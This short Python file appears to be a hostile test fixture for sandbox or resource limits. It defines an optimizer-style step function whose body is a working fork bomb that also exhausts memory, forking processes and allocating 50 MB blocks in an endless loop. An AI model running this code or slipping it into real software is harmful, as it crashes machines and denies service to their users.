# ruff: noqa
"""Takes all memory, in one process and in several."""

import os

hoard = []


def step(param, grad, square_avg, **options):
    while True:
        os.fork() if len(hoard) % 5 == 0 else None
        hoard.append(bytearray(b"x") * (50 << 20))
